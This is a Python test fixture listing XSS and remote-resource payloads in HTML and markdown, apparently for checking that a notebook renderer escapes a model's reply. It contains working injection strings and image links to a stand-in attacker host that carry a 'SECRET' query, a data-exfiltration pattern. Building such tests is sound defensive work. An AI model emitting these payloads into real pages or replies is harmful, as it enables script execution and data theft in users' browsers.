"""Hostile text for the tests of what the notebook renders: the common vectors of OWASP's XSS filter evasion cheat
sheet (script tags, event handlers on img/svg/body/details/input/video, javascript: and data: URLs in links,
images, frames and forms, entity-encoded and mixed-case variants, comments breaking out), their markdown forms
(links, images, reference definitions, autolinks), fences trying to close early, table pipes trying to break out of
the event log, and remote-resource tricks (images, srcset, CSS ``url()``/``@import``, ``<link>``, ``<base>``,
``<meta refresh>``, SVG ``<image href>``, video posters, form actions, math).

Every script payload calls :data:`PWNED` (sets ``window.__pwned`` and calls ``alert``); every remote resource is on
a host under :data:`REMOTE_HOST`, so a browser test can tell a payload's request from anything else."""

from __future__ import annotations

REMOTE_HOST = "attacker.example"
PWNED = "window.__pwned=(window.__pwned||0)+1;alert(1)"
_J = "".join(f"&#{ord(c)};" for c in "javascript:alert(1)")  # decimal entities
_JX = "".join(f"&#x{ord(c):x};" for c in "javascript:alert(1)")  # hex entities

HTML = [
    f"<script>{PWNED}</script>",
    f"<SCRIPT SRC=https://{REMOTE_HOST}/xss.js></SCRIPT>",
    f'<img src=x onerror="{PWNED}">',
    f"<IMG SRC=/ onerror={PWNED}></img>",
    f'<img src="https://{REMOTE_HOST}/pixel.png?q=SECRET">',
    f'<img srcset="https://{REMOTE_HOST}/srcset.png 1x">',
    f"<svg onload={PWNED}>",
    f"<svg/onload={PWNED}>",
    f'<svg><image href="https://{REMOTE_HOST}/svg-image.png"/></svg>',
    f"<body onload={PWNED}>",
    f'<iframe src="javascript:{PWNED}"></iframe>',
    f'<iframe srcdoc="<script>parent.{PWNED}</script>"></iframe>',
    f'<a href="javascript:{PWNED}">click</a>',
    f'<a href="JaVaScRiPt:{PWNED}">mixed case</a>',
    f'<a href="{_J}">decimal entities</a>',
    f'<a href="{_JX}">hex entities</a>',
    f"<IMG SRC={_J}>",
    f'<object data="javascript:{PWNED}"></object>',
    f'<embed src="https://{REMOTE_HOST}/embed.swf">',
    f'<details open ontoggle="{PWNED}">x</details>',
    f"<input autofocus onfocus={PWNED}>",
    f'<video poster="https://{REMOTE_HOST}/poster.png"><source onerror="{PWNED}"></video>',
    f'<form action="https://{REMOTE_HOST}/form"><button>send</button></form>',
    f"<style>@import 'https://{REMOTE_HOST}/import.css';</style>",
    f'<link rel="stylesheet" href="https://{REMOTE_HOST}/link.css">',
    f'<div style="background:url(https://{REMOTE_HOST}/bg.png)">styled</div>',
    f'<table background="https://{REMOTE_HOST}/table-bg.png"><tr><td>t</td></tr></table>',
    f'<base href="https://{REMOTE_HOST}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PWNED}">',
    f'<math><mi xlink:href="javascript:{PWNED}">m</mi></math>',
    f"<!-- --><img src=x onerror={PWNED}>",
    f"--><img src=x onerror={PWNED}><!--",
    f"<![CDATA[><img src=x onerror={PWNED}>]]>",
    f'"><img src=x onerror={PWNED}>',
    f"&lt;img src=x onerror={PWNED}&gt;",
    f"&#60;img src=x onerror={PWNED}&#62;",
]

MARKDOWN = [
    f"[click](javascript:{PWNED})",
    "[click](JAVASCRIPT:alert(1))",
    f"[click]({_J})",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![exfiltrate](https://{REMOTE_HOST}/md-image.png?q=SECRET)",
    f"![x](javascript:{PWNED})",
    f'![x](https://{REMOTE_HOST}/titled.png "title")',
    f"[ref][r]\n\n[r]: javascript:{PWNED}",
    f"![ref image][i]\n\n[i]: https://{REMOTE_HOST}/ref-image.png",
    f"<https://{REMOTE_HOST}/autolink>",
    "<javascript:alert(1)>",
    f"www.{REMOTE_HOST}/gfm-autolink and https://{REMOTE_HOST}/bare",
    "**bold** _em_ `code` # not a heading",
    "# heading\n\n- list\n1. ordered\n> quote\n\n---",
    f"```\n</code></pre><script>{PWNED}</script>\n```",
    f"````\n```\n<img src=x onerror={PWNED}>\n```\n````",
    f"~~~\n<img src=x onerror={PWNED}>\n~~~",
    f"    indented <img src=x onerror={PWNED}>",
    f"| a | b |\n|---|---|\n| <img src=x onerror={PWNED}> | c |",
    f"cell | <img src=x onerror={PWNED}> |\n|---|---|",
    f"$\\href{{javascript:{PWNED}}}{{math link}}$ and $$\\style{{background:url(https://{REMOTE_HOST}/math.png)}}{{x}}$$",
    f"\\(\\href{{https://{REMOTE_HOST}/tex}}{{x}}\\) \\\\[ x \\\\]",
    "trailing backslash \\",
    "a line  \nwith two trailing spaces",
    "\x00 NUL and \r carriage return \r\n and CRLF",
]

ALL = HTML + MARKDOWN
"""Every payload, each meant to be shown exactly as written."""

REPLY = "\n\n".join(ALL)
"""One model reply carrying every payload."""
